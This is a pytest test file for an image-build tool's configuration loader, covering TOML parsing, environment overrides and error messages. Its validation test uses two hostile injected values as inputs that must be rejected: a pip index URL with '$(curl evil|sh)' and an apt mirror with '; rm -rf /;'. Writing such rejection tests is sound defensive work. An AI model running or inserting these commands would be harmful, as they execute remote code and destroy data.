from pathlib import Path

import pytest

from imagectl.config import load_config
from imagectl.errors import ConfigError


def write(tmp_path: Path, text: str) -> Path:
    path = tmp_path / "imagectl.toml"
    path.write_text(text)
    return path


def test_no_configuration_is_valid(tmp_path):
    cfg = load_config(env={}, cwd=tmp_path)
    assert cfg.registry_url is None and cfg.mirrors == {} and cfg.source == "defaults"


def test_full_file_is_read_and_paths_resolve_against_it(tmp_path):
    (tmp_path / "mine").mkdir()
    (tmp_path / "ca.pem").write_text("x")
    write(tmp_path, """
[registry]
url = "registry.example.com:5000"
namespace = "ml"
insecure = true
[mirrors]
"docker.io" = "mirror.example.com/dockerhub"
[pip]
index_url = "https://pypi.example.com/whl/{cuda_tag}"
extra_index_urls = ["https://extra.example.com/simple"]
trusted_hosts = ["pypi.example.com"]
[apt]
mirror = "http://apt.example.com/ubuntu"
[build]
network = "host"
ca_bundle = "ca.pem"
args = { HTTP_PROXY = "http://proxy:3128" }
[paths]
matrices = ["mine"]
templates = ["mine"]
""")
    cfg = load_config(env={}, cwd=tmp_path)
    assert cfg.registry_url == "registry.example.com:5000" and cfg.namespace == "ml" and cfg.insecure
    assert cfg.mirrors == {"docker.io": "mirror.example.com/dockerhub"}
    assert cfg.pip_index_url.endswith("{cuda_tag}") and cfg.pip_trusted_hosts == ("pypi.example.com",)
    assert cfg.ca_bundle == tmp_path / "ca.pem" and cfg.matrix_dirs == (tmp_path / "mine",)
    assert cfg.build_network == "host" and cfg.build_args == {"HTTP_PROXY": "http://proxy:3128"}


def test_environment_overrides_single_keys(tmp_path):
    write(tmp_path, '[registry]\nurl = "a.example.com"\nnamespace = "ml"\n')
    env = {
        "IMAGECTL_REGISTRY_URL": "b.example.com:5000",
        "IMAGECTL_MIRRORS": "docker.io=m.example.com/hub",
        "IMAGECTL_PIP_EXTRA_INDEX_URLS": "https://x.example.com/simple, https://y.example.com/simple",
    }
    cfg = load_config(env=env, cwd=tmp_path)
    assert cfg.registry_url == "b.example.com:5000" and cfg.namespace == "ml"
    assert cfg.mirrors == {"docker.io": "m.example.com/hub"}
    assert len(cfg.pip_extra_index_urls) == 2


def test_config_flag_and_variable_name_the_file(tmp_path):
    other = tmp_path / "other.toml"
    other.write_text('[registry]\nnamespace = "team"\n')
    assert load_config(env={"IMAGECTL_CONFIG": str(other)}, cwd=tmp_path).namespace == "team"
    with pytest.raises(ConfigError, match="--config: configuration file nope.toml not found"):
        load_config("nope.toml", env={}, cwd=tmp_path)


@pytest.mark.parametrize(
    "text, message",
    [
        ("[registry\nurl=1", r"imagectl.toml:1: invalid TOML"),
        ("[registy]\nurl='x'", "unknown section \\[registy\\]"),
        ("[registry]\nhost='x'", "unknown key 'host' in \\[registry\\]"),
        ("[registry]\nurl='a b'", "\\[registry\\] url"),
        ("[pip]\nindex_url='http://x/$(curl evil|sh)'", "\\[pip\\] index_url"),
        ("[pip]\nindex_url='ftp://x/'", "not an http"),
        ("[apt]\nmirror=\"http://x/'; rm -rf /; '\"", "\\[apt\\] mirror"),
        ("[build]\nnetwork='overlay'", "not one of"),
        ("[build]\nargs={ 'A B' = 'x' }", "build arg"),
        ("[build]\nargs={ X = 'a\"b' }", "build arg X"),
        ("[mirrors]\n'docker.io' = 'Not A Ref'", "\\[mirrors\\] docker.io"),
        ("[paths]\nmatrices=['missing']", "is not a directory"),
        ("[registry]\ninsecure='yes'", "true or false"),
    ],
)
def test_bad_configuration_names_file_and_key(tmp_path, text, message):
    write(tmp_path, text)
    with pytest.raises(ConfigError, match=message):
        load_config(env={}, cwd=tmp_path)


def test_bad_environment_value_names_variable(tmp_path):
    with pytest.raises(ConfigError, match="IMAGECTL_BUILD_NETWORK"):
        load_config(env={"IMAGECTL_BUILD_NETWORK": "weird"}, cwd=tmp_path)
